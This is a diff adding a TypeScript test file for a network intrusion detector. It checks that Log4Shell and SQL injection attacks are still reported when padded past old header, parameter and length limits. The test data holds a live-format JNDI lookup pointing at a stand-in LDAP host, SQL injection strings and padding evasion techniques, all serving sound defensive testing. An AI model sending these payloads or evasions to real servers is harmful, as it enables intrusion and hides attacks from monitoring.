@@ -1,0 +1,100 @@
+/**
+ * Padding evasions (ADR 30). Every bound on what detectors read used to cut silently. An attacker who put the
+ * attack past the bound hid it: past 128 header lines, past a header's first KiB, past 256 parameters or JSON
+ * strings, or past a value's first 4 KiB. Each case is the attack that is found without padding, then padded past
+ * the old bound; both must be reported.
+ */
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import type { ThreatFinding } from '#core/finding.ts';
+import { defaultObservers } from '#sidecar/engine/default-observers.ts';
+import { inspectFile } from '#sidecar/engine/inspect-file.ts';
+import { writePcap } from '#sidecar/pcap/pcap-writer.ts';
+import { tcpConversation } from './conversation.ts';
+
+const dir = mkdtempSync(join(tmpdir(), 'meshward-padding-'));
+afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+let n = 0;
+/** The request in one segment, or cut into segments of `mss` octets as a real network carries it. */
+const threatsOf = async (request: string, mss = request.length): Promise<string[]> => {
+  const file = join(dir, `c${n++}.pcap`);
+  const endpoints = { client: '10.0.0.1', server: '10.0.0.2', clientPort: 40000, serverPort: 8080 };
+  const answer = 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n';
+  const segments = Array.from({ length: Math.ceil(request.length / mss) }, (_, i) => ({
+    from: 'client' as const,
+    data: request.slice(i * mss, (i + 1) * mss),
+  }));
+  const records = tcpConversation(endpoints, [...segments, { from: 'server', data: answer }]);
+  writeFileSync(file, writePcap(records).bytes);
+  const { findings } = await inspectFile(file, { observers: defaultObservers() });
+  return findings.filter((f): f is ThreatFinding => f.type === 'threat').map((f) => f.threat);
+};
+
+const sqli = "1'%20OR%20'1'='1";
+// biome-ignore lint/suspicious/noTemplateCurlyInString: a literal Log4j lookup, not a template.
+const jndi = '${jndi:ldap://198.51.100.7/a}';
+const get = (target: string, headers = '') => `GET ${target} HTTP/1.1\r\nHost: shop\r\n${headers}\r\n`;
+const post = (type: string, body: string) =>
+  `POST /search HTTP/1.1\r\nHost: shop\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
+const fillerHeaders = (count: number) =>
+  Array.from({ length: count }, (_, i) => `X-Filler-${i}: a\r\n`).join('');
+
+const cases: { name: string; threat: string; plain: string; padded: string }[] = [
+  {
+    name: 'a JNDI lookup in the 131st header line',
+    threat: 'log4shell',
+    plain: get('/', `User-Agent: ${jndi}\r\n`),
+    padded: get('/', `${fillerHeaders(130)}User-Agent: ${jndi}\r\n`),
+  },
+  {
+    name: 'a JNDI lookup after 1100 octets of one header',
+    threat: 'log4shell',
+    plain: get('/', `User-Agent: ${jndi}\r\n`),
+    padded: get('/', `User-Agent: ${'x'.repeat(1100)}${jndi}\r\n`),
+  },
+  {
+    name: 'a SQL injection in the 301st query parameter',
+    threat: 'sql-injection',
+    plain: get(`/search?q=${sqli}`),
+    padded: get(`/search?${'a=1&'.repeat(300)}q=${sqli}`),
+  },
+  {
+    name: 'a SQL injection after 5000 octets of its parameter',
+    threat: 'sql-injection',
+    plain: get(`/search?q=${sqli}`),
+    padded: get(`/search?q=${'a'.repeat(5000)}${sqli}`),
+  },
+  {
+    name: 'a SQL injection in the 301st form field',
+    threat: 'sql-injection',
+    plain: post('application/x-www-form-urlencoded', `q=${sqli}`),
+    padded: post('application/x-www-form-urlencoded', `${'a=1&'.repeat(300)}q=${sqli}`),
+  },
+  {
+    name: 'a SQL injection in the 301st JSON string',
+    threat: 'sql-injection',
+    plain: post('application/json', JSON.stringify({ q: "1' OR '1'='1" })),
+    padded: post('application/json', JSON.stringify({ a: Array(300).fill('x'), q: "1' OR '1'='1" })),
+  },
+];
+
+describe('an attack padded past what detectors used to read is still reported', () => {
+  it.each(cases)('$name', async ({ threat, plain, padded }) => {
+    expect(await threatsOf(plain)).toContain(threat);
+    expect(await threatsOf(padded)).toContain(threat);
+  });
+
+  it('a first request larger than the 4 KiB kept for detection, in one segment or in 1448-octet ones', async () => {
+    // A request line past 4 KiB used to leave detection waiting for its end; the server's answer then named the
+    // protocol and the request was lost. A head past 4 KiB in one segment lost everything after its first 4 KiB.
+    const longQuery = get(`/search?q=${'a'.repeat(6000)}${sqli}`);
+    const longHead = get(`/search?q=${sqli}`, `X-Padding: ${'b'.repeat(6000)}\r\n`);
+    for (const request of [longQuery, longHead]) {
+      expect(await threatsOf(request)).toContain('sql-injection');
+      expect(await threatsOf(request, 1448)).toContain('sql-injection');
+    }
+  });
+});
